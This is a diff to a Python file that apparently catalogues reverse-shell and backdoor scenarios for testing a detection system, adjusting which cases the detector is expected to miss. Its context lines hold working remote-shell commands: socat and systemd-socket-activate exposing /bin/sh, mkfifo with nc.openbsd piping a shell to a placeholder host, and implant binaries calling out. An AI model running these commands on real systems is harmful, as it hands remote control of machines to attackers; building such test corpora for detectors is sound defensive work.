@@ -6,7 +6,7 @@ pipelines with encryption, doubled tools, wrappers that make a terminal. K: door
 connect record. L: patience: minutes between exec, connect and shell, two forks between."""
 
 from attacks import PROGRAM
-from scenarios import AT_A_TERMINAL, Attack, CHILD_CONNECTS, NO_RECORD
+from scenarios import AT_A_TERMINAL, Attack, CHILD_CONNECTS, POLLS
 
 # Long enough that nothing which waits a minute sees both ends.
 LATE = 65
@@ -179,7 +179,8 @@ ATTACKS = [
     Attack("loop_xargs_env_cron", "I", "text", "cron", "tcp", FIFO.format("xargs -n 4 -L 1 env"),
            speaks=PROGRAM),
     Attack("loop_make_cron", "I", "build", "cron", "http", "make -s -C @D@", needs=("make",),
-           files={"Makefile": MAKE_LOOP}, speaks=PROGRAM),
+           files={"Makefile": MAKE_LOOP}, speaks=PROGRAM,
+           unseen=POLLS),
     Attack("loop_lftp_ssh", "I", "network", "ssh", "tcp", FIFO.format("lftp"), needs=("lftp",),
            speaks=through("!")),
     # ---- J
@@ -231,11 +232,9 @@ while True:
            "cat <@D@/g | env -i sh 2>&1 | cat >@D@/f", needs=("nc.openbsd",), live=True),
     # ---- K
     Attack("door_datagrams_c_ssh", "K", "binary", "ssh", "udp", "@D@/m @H@ @P@ h &",
-           needs=("implant",), files={"m": "copy:@C@/implant"}, live=True,
-           unseen=NO_RECORD),
+           needs=("implant",), files={"m": "copy:@C@/implant"}, live=True),
     Attack("door_datagrams_python_web", "K", "python", "web", "udp", "python3 @D@/u.py",
-           needs=("python3",), files={"u.py": PYTHON_UNCONNECTED},
-           unseen=NO_RECORD),
+           needs=("python3",), files={"u.py": PYTHON_UNCONNECTED}),
     Attack("door_datagrams_socat_cron", "K", "socat", "cron", "udp",
            "socat UDP-DATAGRAM:@H@:@P@ SYSTEM:'echo up; exec sh'", needs=("socat",), live=True),
     Attack("door_fast_open_c_cron", "K", "binary", "cron", "tcp", "@D@/o @H@ @P@ i",
@@ -258,8 +257,7 @@ while True:
            "systemd-socket-activate -l @V@:@P@ --inetd -a /bin/sh",
            needs=("systemd-socket-activate",)),
     Attack("door_echoes_service", "K", "binary", "service", "icmp", "@D@/n @H@ @P@ n",
-           needs=("implant",), files={"n": "copy:@C@/implant"}, live=True,
-           unseen=NO_RECORD),
+           needs=("implant",), files={"n": "copy:@C@/implant"}, live=True),
     # ---- L
     Attack("late_c_orphan_cron", "L", "binary", "cron", "tcp", f"@D@/y @H@ @P@ o {LATE}",
            needs=("implant",), files={"y": "copy:@C@/implant"}, patience=PATIENCE),
@@ -269,7 +267,8 @@ while True:
     Attack("late_python_daemon_cron", "L", "python", "cron", "tcp", "python3 @D@/d.py",
            needs=("python3",), files={"d.py": PYTHON_DAEMON}, patience=PATIENCE),
     Attack("late_perl_loop_ssh", "L", "perl", "ssh", "tcp", "perl @D@/w.pl",
-           files={"w.pl": PERL_LATE_LOOP}, patience=PATIENCE),
+           files={"w.pl": PERL_LATE_LOOP}, patience=PATIENCE,
+           unseen=AT_A_TERMINAL),
     Attack("late_fifo_cron", "L", "netcat", "cron", "tcp",
            f"mkfifo @D@/f @D@/g; exec 8<>@D@/f 9<>@D@/g; sh <@D@/f >@D@/g 2>&1 & sleep {LATE}; "
            "nc.openbsd @H@ @P@ <@D@/g >@D@/f", needs=("nc.openbsd",), patience=PATIENCE, live=True),
